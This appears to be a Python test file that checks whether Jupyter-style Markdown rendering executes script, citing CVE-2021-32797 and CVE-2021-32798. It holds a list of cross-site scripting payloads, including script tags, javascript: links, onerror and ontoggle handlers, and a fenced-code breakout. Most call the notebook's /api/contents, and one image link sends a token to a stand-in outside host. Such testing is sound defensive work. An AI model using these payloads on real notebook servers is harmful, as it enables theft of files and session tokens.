"""Shows Markdown, and hands in cells of it, with raw HTML, links that are scripts, and pictures from outside."""

SOURCE = "CVE-2021-32797, CVE-2021-32798"
SUCCESS = "a script in the executed notebook's outputs"
CELLS = {
    "text-the-target-of-attacks": "# Title <script>fetch('/api/contents')</script>\n\n[the grade](javascript:fetch('/api/contents'))\n\n"
    "![x](https://example.invalid/@TOKEN@)\n\n<img src=x onerror=fetch('/api/contents')>\n\n$\\href{javascript:1}{x}$\n"
}

# %%
from IPython.display import Markdown, display

CODE = "fetch('/api/contents')"
for text in (
    f"<script>{CODE}</script>", f"[the grade](javascript:{CODE})", f"[the grade](<java\nscript:{CODE}>)", f"![x](x\"onerror=\"{CODE})",
    f"<img src=x onerror={CODE}>", f"[x]: javascript:{CODE}\n[x]", f"<javascript:{CODE}>", f"`<script>{CODE}</script>", "![x](https://example.invalid/@TOKEN@)",
    f"```html\n</code></pre><script>{CODE}</script>\n```", f"$\\href{{javascript:{CODE}}}{{x}}$", f"<details open ontoggle={CODE}>", f"&lt;script&gt;{CODE}",
):  # fmt: skip
    display(Markdown(text))
    display({"text/markdown": text, "text/html": f"<p>{text.split(chr(10))[0][:1]}</p>", "text/plain": text}, raw=True)
print("attempted")
